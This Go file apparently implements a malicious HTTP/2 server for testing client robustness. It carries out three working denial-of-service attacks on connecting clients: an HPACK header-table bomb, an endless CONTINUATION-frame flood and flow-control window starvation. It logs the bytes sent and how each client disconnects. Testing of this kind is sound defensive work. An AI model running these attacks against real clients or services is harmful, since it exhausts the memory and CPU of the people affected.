package main

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// How long an attack lasts when the client does not end the connection.
const attackTime = 5 * time.Second

// attack speaks HTTP/2 frame by frame, politely until the first request, whose path says how it goes on. In the end it
// prints the attack, how many bytes it has sent and how the client took leave.
func attack(conn net.Conn) {
	defer conn.Close()
	preface := make([]byte, len(http2.ClientPreface))
	if _, err := io.ReadFull(conn, preface); err != nil {
		return
	}
	counter := &counted{to: conn}
	framer := http2.NewFramer(counter, conn)
	framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	framer.WriteSettings()
	requests := make(chan *http2.MetaHeadersFrame, 100)
	bye := make(chan string, 1)
	go func() {
		end := "the connection ended"
		for {
			frame, err := framer.ReadFrame()
			if err != nil {
				break
			}
			switch frame := frame.(type) {
			case *http2.SettingsFrame:
				if !frame.IsAck() {
					framer.WriteSettingsAck()
				}
			case *http2.MetaHeadersFrame:
				requests <- frame
			case *http2.RSTStreamFrame:
				end = fmt.Sprint("RST_STREAM ", frame.ErrCode)
				if frame.ErrCode == http2.ErrCodeCancel {
					bye <- end
					return
				}
			case *http2.GoAwayFrame:
				end = fmt.Sprint("GOAWAY ", frame.ErrCode)
			}
		}
		bye <- end
	}()
	first := <-requests
	path := first.PseudoValue("path")
	switch path {
	case "/bomb": // a large entry of the table, then a block that names it 16,000 times
		entry := []byte{0x88, 0x40, 6}
		entry = append(entry, "x-bomb"...)
		entry = hpackLength(entry, 4000)
		entry = append(entry, strings.Repeat("b", 4000)...)
		block(framer, first.StreamID, entry)
		second := <-requests
		block(framer, second.StreamID, append([]byte{0x88}, bytes.Repeat([]byte{0xbe}, 16_000)...))
	case "/continuation": // a header block without end
		framer.WriteHeaders(http2.HeadersFrameParam{StreamID: first.StreamID, BlockFragment: []byte{0x88}})
		for until := time.Now().Add(attackTime); time.Now().Before(until); {
			if framer.WriteContinuation(first.StreamID, false, []byte{0, 1, 'x', 1, 'y'}) != nil {
				break
			}
		}
	case "/starve": // no window ever
	}
	select {
	case end := <-bye:
		fmt.Println(path, counter.n, end)
	case <-time.After(attackTime):
		fmt.Println(path, counter.n, "the client is still there")
	}
}

func block(framer *http2.Framer, id uint32, fields []byte) {
	for at, kind := 0, 0; at < len(fields); kind++ {
		piece := fields[at:min(len(fields), at+16_000)]
		at += len(piece)
		if kind == 0 {
			framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: piece, EndHeaders: at == len(fields)})
		} else {
			framer.WriteContinuation(id, at == len(fields), piece)
		}
	}
}

// hpackLength appends the length of a text as RFC 7541 5.1 has it, without Huffman.
func hpackLength(to []byte, n int) []byte {
	if n < 127 {
		return append(to, byte(n))
	}
	to = append(to, 127)
	for n -= 127; n >= 128; n >>= 7 {
		to = append(to, byte(n&127|128))
	}
	return append(to, byte(n))
}

type counted struct {
	to net.Conn
	n  int
}

func (c *counted) Write(p []byte) (int, error) {
	c.to.SetWriteDeadline(time.Now().Add(attackTime))
	n, err := c.to.Write(p)
	c.n += n
	return n, err
}
